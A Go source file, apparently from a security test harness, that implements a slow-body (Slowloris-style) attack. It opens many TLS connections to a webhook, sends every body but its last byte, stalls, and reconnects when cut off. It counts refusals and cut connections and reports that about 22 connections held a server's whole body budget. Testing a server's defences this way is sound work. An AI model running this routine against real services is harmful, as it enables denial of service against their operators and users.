package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"net/http"
	"sync"
	"sync/atomic"
	"time"
)

// stalledRetry is how long a stalled client waits before it connects
// again once the server has cut it off or refused it.
const stalledRetry = 250 * time.Millisecond

// StallStats counts what the stalled clients met.
type StallStats struct {
	// Connections counts TLS connections made.
	Connections int64
	// Refused counts bodies the server refused with 503 (its body budget,
	// or the caller's address's share of it, was held).
	Refused int64
	// Cut counts bodies the server cut off without an answer, or answered
	// otherwise (its read deadline for the declared size passed).
	Cut int64
	// DialErrors counts failed dials and handshakes.
	DialErrors int64
}

// StalledBodies opens n TLS connections to addr from source, each
// declaring a review body of size bytes, sending all but its last byte at
// once and then nothing, so that the server holds what it has read until
// it gives up on the body; a connection cut off or refused is made again
// after stalledRetry. Against a webhook with one shared body budget and a
// flat read timeout, about 22 such connections of 3 MiB held the whole of
// it. It returns at once; stop ends them and says what they met.
func StalledBodies(ctx context.Context, source, addr string, n, size int, tlsConfig *tls.Config) (stop func() StallStats) {
	dialer := attackerDialer(source, tlsConfig)
	ctx, cancel := context.WithCancel(ctx)
	var stats StallStats
	body := make([]byte, size-1)
	for i := range body {
		body[i] = ' '
	}
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for ctx.Err() == nil {
				stalledRequest(ctx, dialer, addr, size, body, &stats)
				select {
				case <-ctx.Done():
				case <-time.After(stalledRetry):
				}
			}
		})
	}
	return func() StallStats {
		cancel()
		wg.Wait()
		return StallStats{
			Connections: atomic.LoadInt64(&stats.Connections),
			Refused:     atomic.LoadInt64(&stats.Refused),
			Cut:         atomic.LoadInt64(&stats.Cut),
			DialErrors:  atomic.LoadInt64(&stats.DialErrors),
		}
	}
}

// stalledRequest makes one stalled request and waits for the server's
// answer or its closing of the connection.
func stalledRequest(ctx context.Context, dialer *tls.Dialer, addr string, size int, body []byte, stats *StallStats) {
	conn, head, closeConn, err := dialReview(ctx, dialer, addr, size)
	if err != nil {
		atomic.AddInt64(&stats.DialErrors, 1)
		return
	}
	atomic.AddInt64(&stats.Connections, 1)
	defer closeConn()
	// The server may answer, and close, before the whole body is sent: what
	// it says is read either way.
	_, _ = conn.Write(append(head, body...))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if ctx.Err() != nil {
		return
	}
	if err == nil && resp.StatusCode == http.StatusServiceUnavailable {
		atomic.AddInt64(&stats.Refused, 1)
		return
	}
	atomic.AddInt64(&stats.Cut, 1)
}
